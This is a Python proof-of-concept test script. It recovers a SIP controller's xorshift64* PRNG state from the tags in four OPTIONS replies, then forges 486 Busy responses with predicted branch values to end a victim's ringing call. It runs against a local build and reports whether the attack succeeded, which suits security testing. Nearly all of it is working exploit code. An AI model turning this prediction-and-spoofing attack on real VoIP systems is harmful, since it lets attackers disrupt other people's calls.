#!/usr/bin/env python3
"""The controller's random numbers can be predicted from its OPTIONS answers.

An off-path attacker sends four out-of-dialog OPTIONS. Each 200 carries a To
tag "ss%08x": the low 32 bits of the controller's xorshift64* output. Those
are the low 32 bits of the state times an odd constant, so they give the low
32 bits of the state, which are GF(2)-linear in the 64-bit seed: three answers
give the seed, the fourth checks it. The attacker then knows the "32 random
bits" of every later leg B branch (make_branch), the salt of every To tag
and leg B From tag, and leg B's Call-ID. It forges a 486 for a victim's call
in set-up from another address, trying only the small record index and
generation, and the victim caller gets 486 though its callee only rang.

usage: predict_branch.py [SIPSHARDD]   (exit 1: the attack worked)
"""
import os
import re
import select
import socket
import subprocess
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
DAEMON = sys.argv[1] if len(sys.argv) > 1 else os.path.join(HERE, "..", "build", "sipshardd")
D_PORT, B_PORT, A_PORT = 32060, 32080, 32100
MASK = (1 << 64) - 1
C = 2685821657736338717
CINV32 = pow(C & 0xffffffff, -1, 1 << 32)


def step_sym(v):
    """xorshift64* step on a symbolic state: v[i] is the mask of seed bits
    whose XOR is bit i."""
    def shr(v, k):
        return [v[i + k] if i + k < 64 else 0 for i in range(64)]

    def shl(v, k):
        return [v[i - k] if i - k >= 0 else 0 for i in range(64)]

    def xor(a, b):
        return [x ^ y for x, y in zip(a, b)]
    v = xor(v, shr(v, 12))
    v = xor(v, shl(v, 25))
    v = xor(v, shr(v, 27))
    return v


def step(x):
    x ^= x >> 12
    x ^= (x << 25) & MASK
    x ^= x >> 27
    return x


def solve(obs):
    """obs: [(steps after the seed, low 32 bits of the output)] -> seeds."""
    rows = []
    v = [1 << i for i in range(64)]
    t = 0
    for n, out32 in sorted(obs):
        while t < n:
            v = step_sym(v)
            t += 1
        low = (out32 * CINV32) & 0xffffffff
        for i in range(32):
            rows.append((v[i], (low >> i) & 1))
    # Gaussian elimination over GF(2)
    piv = {}
    for m, b in rows:
        for bit, (pm, pb) in piv.items():
            if m >> bit & 1:
                m ^= pm
                b ^= pb
        if m == 0:
            if b:
                return None
            continue
        bit = m.bit_length() - 1
        for k, (pm, pb) in list(piv.items()):
            if pm >> bit & 1:
                piv[k] = (pm ^ m, pb ^ b)
        piv[bit] = (m, b)
    if len(piv) < 64:
        return None
    s = 0
    for bit, (m, b) in piv.items():
        if b:
            s |= 1 << bit
    return s


def out(x):
    return (x * C) & MASK


def sock(ip, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((ip, port))
    return s


def recv(s, timeout):
    r, _, _ = select.select([s], [], [], timeout)
    if not r:
        return None
    d, a = s.recvfrom(65535)
    return d.decode("latin-1"), a


def options(s, i):
    s.sendto(("OPTIONS sip:x@127.0.0.1:%d SIP/2.0\r\nVia: SIP/2.0/UDP 127.0.0.9:%d;branch=z9hG4bKo%d\r\n"
              "From: <sip:a@x>;tag=o%d\r\nTo: <sip:x@y>\r\nCall-ID: opt%d@x\r\nCSeq: 1 OPTIONS\r\n"
              "Max-Forwards: 70\r\nContent-Length: 0\r\n\r\n" % (D_PORT, s.getsockname()[1], i, i, i)
              ).encode(), ("127.0.0.1", D_PORT))
    m, _ = recv(s, 2)
    return int(re.search(r"^To:.*;tag=ss([0-9a-f]{8})", m, re.M).group(1), 16)


def main():
    run = os.path.join(HERE, "run")
    os.makedirs(run, mode=0o700, exist_ok=True)
    d = subprocess.Popen([DAEMON, "-c", os.path.join(HERE, "cfg.json")],
                         stderr=open(os.path.join(HERE, "d.log"), "w"))
    try:
        return attack(d)
    finally:
        d.terminate()
        try:
            d.wait(5)
        except subprocess.TimeoutExpired:
            d.kill()


def attack(d):
    att = sock("127.0.0.9", 32111)
    callee = sock("127.0.0.1", B_PORT)
    caller = sock("127.0.0.1", A_PORT)
    for _ in range(50):
        try:
            options(att, 99)
            break
        except Exception:
            time.sleep(0.1)
    # 1. three consecutive answers
    tags = [options(att, i) for i in range(4)]
    seed = solve([(1, tags[0]), (2, tags[1]), (3, tags[2])])
    if seed is None:
        print("ok: state not recovered (no GF(2) solution)")
        return 0
    x = seed
    for _ in range(4):
        x = step(x)
    if out(x) & 0xffffffff != tags[3]:
        print("ok: state not recovered (the fourth answer differs)")
        return 0
    predicted = []
    for _ in range(16):
        x = step(x)
        predicted.append(out(x) & 0xffffffff)
    print("state recovered from 4 OPTIONS answers; next outputs: %s" %
          " ".join("%08x" % p for p in predicted[:6]))
    # 2. a victim's call rings
    caller.sendto(("INVITE sip:bob@127.0.0.1:%d SIP/2.0\r\nVia: SIP/2.0/UDP 127.0.0.1:%d;branch=z9hG4bKv1\r\n"
                   "From: <sip:alice@127.0.0.1>;tag=victim1\r\nTo: <sip:bob@127.0.0.1>\r\n"
                   "Call-ID: victim-call@127.0.0.1\r\nCSeq: 1 INVITE\r\nContact: <sip:alice@127.0.0.1:%d>\r\n"
                   "Max-Forwards: 70\r\nContent-Length: 0\r\n\r\n" % (D_PORT, A_PORT, A_PORT)).encode(),
                  ("127.0.0.1", D_PORT))
    inv, src = recv(callee, 2)
    branch = re.search(r"^Via:.*;branch=(z9hG4bKsc[0-9a-f]{24})", inv, re.M).group(1)
    real = int(branch[-8:], 16)
    print("leg B branch %s: random part %08x is predicted output #%s" %
          (branch, real, predicted.index(real) if real in predicted else "NONE"))
    to_tag_line = re.search(r"^To: (.*)\r\n", inv, re.M).group(1)
    callee.sendto(("SIP/2.0 180 Ringing\r\n%sFrom: %s\r\nTo: %s;tag=bob1\r\nCall-ID: %s\r\nCSeq: 1 INVITE\r\n"
                   "Contact: <sip:bob@127.0.0.1:%d>\r\nContent-Length: 0\r\n\r\n"
                   % ("".join(re.findall(r"^Via:.*\r\n", inv, re.M)), re.search(r"^From: (.*)\r\n", inv, re.M).group(1),
                      to_tag_line, re.search(r"^Call-ID: (.*)\r\n", inv, re.M).group(1), B_PORT)).encode(), src)
    # 3. the attacker, from elsewhere, knows only the predicted outputs
    forger = sock("127.0.0.66", 32112)
    sent = 0
    for rnd in predicted[:8]:
        for idx in range(8):
            for gen in range(1, 4):
                b = "z9hG4bKsc%08x%08x%08x" % (idx, gen, rnd)
                forger.sendto(("SIP/2.0 486 Busy Here\r\nVia: SIP/2.0/UDP 127.0.0.1:%d;branch=%s\r\n"
                               "From: <sip:x@y>;tag=f\r\nTo: <sip:x@y>;tag=forged\r\nCall-ID: forged@x\r\n"
                               "CSeq: 1 INVITE\r\nContent-Length: 0\r\n\r\n" % (D_PORT, b)).encode(),
                              ("127.0.0.1", D_PORT))
                sent += 1
    got = []
    end = time.time() + 2
    while time.time() < end:
        r = recv(caller, 0.2)
        if r:
            got.append(int(r[0].split()[1]))
    print("forged responses sent: %d; the victim caller got: %s" % (sent, got))
    if 486 in got:
        print("FAIL: a forged 486 with a predicted branch ended the victim's ringing call")
        return 1
    print("ok: no forged response matched")
    return 0


if __name__ == "__main__":
    sys.exit(main())
